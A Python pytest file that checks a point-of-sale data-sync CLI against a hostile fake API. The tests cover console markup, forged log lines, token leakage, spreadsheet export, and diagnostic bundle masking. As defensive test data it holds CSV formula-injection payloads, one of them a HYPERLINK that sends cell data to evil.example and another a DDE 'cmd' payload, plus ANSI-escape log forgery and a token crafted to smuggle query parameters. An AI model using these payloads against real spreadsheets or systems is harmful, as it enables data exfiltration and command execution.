"""Text from the API and the config is text: never console markup, never a forged log
line, never a spreadsheet formula; the real CLI against a hostile CloudPOS on loopback
(tests/hostile.py), on SQLite and Postgres."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import select

from syncer import reports, writers
from syncer import tables as t
from syncer.db import make_engine
from syncer.ledger import api_day, utcnow
from syncer.simulator import Simulator
from syncer.simulator.data import generate
from tests.conftest import ANCHOR, LICENSE, TOKEN, database
from tests.helpers import cli_env, run_cli
from tests.hostile import Answer, api_error, hostile, with_values
from tests.test_writers import BRUSSELS, SHIFT, convert, soffice

MARKUP_LICENSE = "shop[/]"


def marked_up(function: str, params: dict[str, str], body: bytes) -> bytes | None:
    """Products, order lines and customers whose names a console would read as markup."""
    if function == "get-customers":
        return with_values(body, {"firstname": "Jan", "name": "[/bold]"}.get)
    return with_values(body, lambda key, value: "Koffie [/]" if value == "Espresso" else value)


def test_names_that_look_like_markup_are_printed_as_text(db_url: str, tmp_path: Path) -> None:
    sim = Simulator(generate(seed=1, orders=300, anchor=ANCHOR), licenses={MARKUP_LICENSE: TOKEN})
    sim.start()
    try:
        with hostile(sim.base_url, marked_up) as server:
            env = cli_env(db_url, server.base_url, CLOUDPOS_LICNAME=MARKUP_LICENSE)
            backfill = run_cli(["backfill"], env, cwd=tmp_path)
            assert backfill.exit_code == 0, backfill.output
            assert f"{MARKUP_LICENSE}" in backfill.output  # the summary names the license as is
            sales = run_cli(["report", "product_sales"], env, cwd=tmp_path)
            assert sales.exit_code == 0, sales.output
            assert "Koffie [/]" in sales.output, sales.output
            credit = run_cli(["report", "report_liabilities"], env, cwd=tmp_path)
            assert credit.exit_code == 0, credit.output
            assert "Jan [/bold]" in credit.output
            doctor = run_cli(["doctor", "--out", str(tmp_path / "bundle.json")], env, cwd=tmp_path)
            assert doctor.exit_code == 0, doctor.output
            assert f"doctor: license {MARKUP_LICENSE}" in doctor.output
            status = run_cli(["status"], env, cwd=tmp_path)
            assert status.exit_code == 0, status.output
            assert f"license {MARKUP_LICENSE}:" in status.output
    finally:
        sim.stop()


def test_an_api_message_with_markup_is_shown_by_check_online(
        db_url: str, sim: Simulator, tmp_path: Path) -> None:
    def refuse(function: str, params: dict[str, str], body: bytes) -> bytes | None:
        return api_error(1005, "module [/] niet actief") if function == "get-printers" else None

    with hostile(sim.base_url, refuse) as server:
        env = cli_env(db_url, server.base_url)
        assert run_cli(["migrate"], env, cwd=tmp_path).exit_code == 0
        check = run_cli(["check", "--online"], env, cwd=tmp_path)
    assert check.exit_code == 1, check.output
    assert "1005 module [/] niet actief" in check.output
    assert [f for f, _ in server.seen] == ["get-printers"]




def syncer(args: list[str], env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """The real CLI in a subprocess: its stderr is the text log an operator reads."""
    return subprocess.run([sys.executable, "-m", "syncer", "--log-level", "debug", *args],
                          check=False, env=env, cwd=cwd, capture_output=True, text=True,
                          timeout=120)


def last_errors(db_url: str) -> list[str]:
    engine = make_engine(db_url)
    try:
        with engine.connect() as conn:
            return [e for e in conn.execute(select(t.sync_state.c.last_error)).scalars() if e]
    finally:
        engine.dispose()


FORGED = "2026-12-01T08:00:00.000+00:00 ERROR   syncer: credentials stolen"


def test_control_characters_from_the_api_never_start_a_log_line(
        db_url: str, sim: Simulator, tmp_path: Path) -> None:
    message = f"kapot\n{FORGED}\r\x1b[2K\x1b[1Aweg\u2028{FORGED}"

    def refuse(function: str, params: dict[str, str], body: bytes) -> bytes | None:
        return api_error(1999, message) if function == "get-printers" else None

    with hostile(sim.base_url, refuse) as server:
        run = syncer(["backfill", "--resource", "printers"], cli_env(db_url, server.base_url),
                     tmp_path)
    out = run.stdout + run.stderr
    assert run.returncode == 1, out
    assert "Traceback" not in out
    assert "1999 kapot\\n2026-12-01" in run.stderr  # said, escaped, on the line that quotes it
    assert "\x1b" not in out and "\u2028" not in out and "\r" not in out
    assert not any(line.startswith(FORGED[:20]) for line in out.splitlines())
    assert all("\n" not in error and "\x1b" not in error for error in last_errors(db_url))


HOSTILE_TOKEN = 'SECRET#&licname=evil x+%41/\u00e9"q'
TOKEN_PARTS = ("SECRET", "evil x", "%41/", "licname=evil")


@pytest.mark.parametrize("echo", [
    pytest.param(lambda token: token.encode(), id="as-is"),
    pytest.param(lambda token: ("x" * 190 + token).encode(), id="cut-at-200"),
    pytest.param(lambda token: json.dumps({"token": token}).encode(), id="json-escaped"),
    pytest.param(lambda token: f"GET /api/?licname=demo&token={token}&get-printers".encode(),
                 id="query-as-is"),
    pytest.param(lambda token: "<p>{}</p>".format(
        __import__("urllib.parse").parse.quote_plus(token)).encode(), id="url-encoded"),
])
def test_a_4xx_body_echoing_the_token_shows_no_part_of_it(
        db_url: str, tmp_path: Path, echo: object) -> None:
    sim = Simulator(generate(seed=1, orders=50, anchor=ANCHOR), licenses={LICENSE: HOSTILE_TOKEN})
    sim.start()
    try:
        def refuse(function: str, params: dict[str, str], body: bytes) -> Answer | None:
            assert callable(echo)
            return Answer(echo(HOSTILE_TOKEN), status=403) if function == "get-printers" else None

        with hostile(sim.base_url, refuse) as server:
            env = cli_env(db_url, server.base_url, token=HOSTILE_TOKEN)
            run = syncer(["backfill", "--resource", "printers"], env, tmp_path)
            status = syncer(["status"], env, tmp_path)
    finally:
        sim.stop()
    out = run.stdout + run.stderr + status.stdout + status.stderr
    assert run.returncode == 1, out
    assert "HTTP 403" in run.stderr
    stored = last_errors(db_url)
    assert stored and "HTTP 403" in stored[0]
    for part in TOKEN_PARTS:
        assert part not in out, part
        assert all(part not in error for error in stored), (part, stored)


@pytest.mark.parametrize("status", [201, 204, 302])
def test_only_a_200_is_an_answer(db_url: str, sim: Simulator, tmp_path: Path, status: int) -> None:
    def elsewhere(function: str, params: dict[str, str], body: bytes) -> Answer | None:
        if function != "get-printers":
            return None
        wrong = json.dumps({"data": [{"id": 99, "name": "not a printer"}]}).encode()
        return Answer(b"" if status == 204 else wrong, status=status,
                      headers={"Location": "http://127.0.0.1:9/elsewhere"} if status == 302 else {})

    with hostile(sim.base_url, elsewhere) as server:
        run = syncer(["backfill", "--resource", "printers"], cli_env(db_url, server.base_url),
                     tmp_path)
    out = run.stdout + run.stderr
    assert run.returncode == 1, out
    assert "Traceback" not in out
    assert f"HTTP {status} instead of 200" in run.stderr
    engine = make_engine(db_url)
    try:
        with engine.connect() as conn:
            assert conn.execute(select(t.printers.c.id)).scalars().all() == []
    finally:
        engine.dispose()
    assert len([f for f, _ in server.seen if f == "get-printers"]) >= 1


RUNNING_NAMES = {
    "Espresso": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "Cappuccino": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Latte macchiato": "-2+3",
    "Irish coffee": "+1+1",
    "Coca-Cola": "\tTAB=1+1",
}


def test_a_spreadsheet_never_runs_a_product_name(db_url: str, sim: Simulator, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    def rename(function: str, params: dict[str, str], body: bytes) -> bytes | None:
        return with_values(body, lambda key, value: RUNNING_NAMES.get(value, value)
                           if isinstance(value, str) else value)

    with hostile(sim.base_url, rename) as server:
        env = cli_env(db_url, server.base_url)
        assert run_cli(["backfill"], env, cwd=tmp_path).exit_code == 0
    for name, args in (("be.csv", ["--csv", "excel-be"]), ("book.xlsx", []), ("plain.csv", [])):
        made = run_cli(["report", "product_sales", "--out", str(tmp_path / name), *args], env,
                       cwd=tmp_path)
        assert made.exit_code == 0, made.output

    # The spreadsheet CSV: each such name behind a `'`, every other cell as it was.
    with (tmp_path / "be.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f, delimiter=";"))
    names = {row["product_name"] for row in rows}
    assert {f"'{n}" for n in RUNNING_NAMES.values()} <= names
    assert not names & set(RUNNING_NAMES.values())
    assert "Spa plat" in names
    # The CSV for scripts: every name exactly as the API sent it.
    with (tmp_path / "plain.csv").open(encoding="utf-8", newline="") as f:
        assert set(RUNNING_NAMES.values()) <= {row["product_name"] for row in csv.DictReader(f)}
    # The workbook: text cells holding the names as sent, with Excel's quote prefix.
    sheet = load_workbook(tmp_path / "book.xlsx").active
    assert sheet is not None
    cells = {c.value: c for c in sheet["D"] if isinstance(c.value, str)}
    for running in RUNNING_NAMES.values():
        assert cells[running].data_type == "s" and cells[running].quotePrefix, running
    assert not cells["Spa plat"].quotePrefix
    # LibreOffice opening the CSV the way Excel does (formulas evaluated): not one formula.
    opened = convert(soffice(), tmp_path / "be.csv", tmp_path / "opened", tmp_path / "profile",
                     "--infilter=CSV:59,34,,1,,2067,false,true,false,false,false,-1,true")
    book = load_workbook(opened).active
    assert book is not None
    kinds = {c.data_type for row in book.iter_rows() for c in row}
    assert "f" not in kinds
    shown = {c.value for c in book["D"]}
    assert {f"'{n}" for n in RUNNING_NAMES.values()} <= shown


def test_excel_be_quotes_formulas_in_text_and_keeps_numbers_numeric() -> None:
    labor = reports.get("report_labor")
    rows = [{**SHIFT, "username": name, "hours_worked": hours} for name, hours in (
        ("=1+1", Decimal("-1.50")), ("-5", Decimal("2")), ("-2+3", Decimal("0")),
        ("@me", Decimal("1")), ("Léa", Decimal("3")))]
    out = io.BytesIO()
    writers.get("csv", csv="excel-be").write(writers.Extract(labor, rows, BRUSSELS), out)
    lines = out.getvalue().decode("utf-8-sig").splitlines()[1:]
    assert [(line.split(";")[3], line.split(";")[6]) for line in lines] == [
        ("'=1+1", "-1,50"), ("-5", "2,00"), ("'-2+3", "0,00"), ("'@me", "1,00"), ("Léa", "3,00")]
    plain = io.BytesIO()
    writers.get("csv").write(writers.Extract(labor, rows, BRUSSELS), plain)
    assert [line.split(",")[3] for line in plain.getvalue().decode().splitlines()[1:]] == [
        "=1+1", "-5", "-2+3", "@me", "Léa"]


# --- the doctor's bundle, --out files, odd dates ---------------------------------------------

NATIONAL_NUMBER = 85073003328


def test_the_doctor_bundle_masks_a_national_number_sent_as_a_json_number(
        db_url: str, sim: Simulator, tmp_path: Path) -> None:
    def with_rrn(function: str, params: dict[str, str], body: bytes) -> bytes | None:
        if function != "get-customers":
            return None
        answer = json.loads(body)
        for record in answer["data"]:
            record.update({"rrn": NATIONAL_NUMBER, "ids": {"rrn": NATIONAL_NUMBER,
                                                          "more": [NATIONAL_NUMBER, 7]}})
        return json.dumps(answer).encode()

    with hostile(sim.base_url, with_rrn) as server:
        env = cli_env(db_url, server.base_url)
        assert run_cli(["backfill", "--resource", "customers"], env, cwd=tmp_path).exit_code == 0
        bundle = tmp_path / "bundle.json"
        doctor = run_cli(["doctor", "--out", str(bundle)], env, cwd=tmp_path)
    assert doctor.exit_code == 0, doctor.output
    text = bundle.read_text(encoding="utf-8")
    assert str(NATIONAL_NUMBER) not in text and "73003328" not in text
    samples = json.loads(text)["licenses"][0]["functions"]["get-customers"]["samples"]
    assert len(samples) == 3
    for sample in samples:
        assert sample["rrn"] == sample["ids"]["rrn"] == "<national number>"
        assert sample["ids"]["more"] == ["<national number>", 7]


def test_doctor_out_keeps_an_existing_file_and_never_writes_through_a_link(
        db_url: str, sim: Simulator, tmp_path: Path) -> None:
    env = cli_env(db_url, sim.base_url)
    assert run_cli(["backfill", "--resource", "printers"], env, cwd=tmp_path).exit_code == 0
    kept = tmp_path / "kept.json"
    kept.write_text("an older bundle\n")
    refused = run_cli(["doctor", "--out", str(kept)], env, cwd=tmp_path)
    assert refused.exit_code == 2, refused.output
    assert f"--out {kept}: cannot write it (it exists; add --force to replace it)" in refused.output
    assert kept.read_text() == "an older bundle\n"

    precious = tmp_path / "precious.txt"
    precious.write_text("not a bundle\n")
    link = tmp_path / "link.json"
    link.symlink_to(precious)
    assert run_cli(["doctor", "--out", str(link)], env, cwd=tmp_path).exit_code == 2
    forced = run_cli(["doctor", "--out", str(link), "--force"], env, cwd=tmp_path)
    assert forced.exit_code == 0, forced.output
    assert not link.is_symlink() and json.loads(link.read_text())["syncer_doctor"] == 1
    assert precious.read_text() == "not a bundle\n"  # the link was replaced, not followed

    missing = tmp_path / "no-such-folder" / "b.json"
    nowhere = run_cli(["doctor", "--out", str(missing)], env, cwd=tmp_path)
    assert nowhere.exit_code == 2, nowhere.output
    assert f"--out {missing}: cannot write it (No such file or directory)" in nowhere.output
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")) == []


def test_a_full_disk_under_doctor_out_is_one_clear_line(sim: Simulator, tmp_path: Path) -> None:
    """A disk that takes no more (a file size limit on the process: the kernel refuses
    the bundle's bytes as a full disk would). On Postgres: a SQLite database is a file of
    the same process, so the limit would refuse its journal first."""
    import resource

    def small_disk() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))  # the bundle is larger

    with database("postgresql", tmp_path) as db_url:
        env = cli_env(db_url, sim.base_url)
        assert run_cli(["backfill", "--resource", "products"], env, cwd=tmp_path).exit_code == 0
        run = subprocess.run([sys.executable, "-m", "syncer", "doctor", "--out", "b.json"],
                             check=False, env=env, cwd=tmp_path, capture_output=True, text=True,
                             timeout=120, preexec_fn=small_disk)
    out = run.stdout + run.stderr
    assert run.returncode == 1, out
    assert "Traceback" not in out
    assert "--out b.json: cannot write it (File too large)" in out
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(("b.json", ".b.json"))] == []


def test_audit_and_report_over_every_possible_day(db_url: str, sim: Simulator, tmp_path: Path) -> None:
    env = cli_env(db_url, sim.base_url)
    assert run_cli(["backfill"], env, cwd=tmp_path).exit_code == 0
    audit = syncer(["audit", "--json", "--from", "0001-01-01", "--to", "9999-12-31"], env, tmp_path)
    assert audit.returncode in (0, 4), audit.stdout + audit.stderr
    assert "Traceback" not in audit.stderr
    found = json.loads(audit.stdout)["licenses"][0]
    days = found["open_days_without_tickets"]  # none before the first ticket or after today
    today = api_day(utcnow(), BRUSSELS)  # the shop's day: past 23:00 UTC, Brussels is a day on
    assert all(day > "2026-" for day in days) and max(days) <= today.isoformat()
    report = syncer(["report", "vat", "--format", "csv", "--from", "0001-01-01", "--to",
                     "9999-12-31"], env, tmp_path)
    assert report.returncode == 0, report.stderr
    assert len(report.stdout.splitlines()) > 1
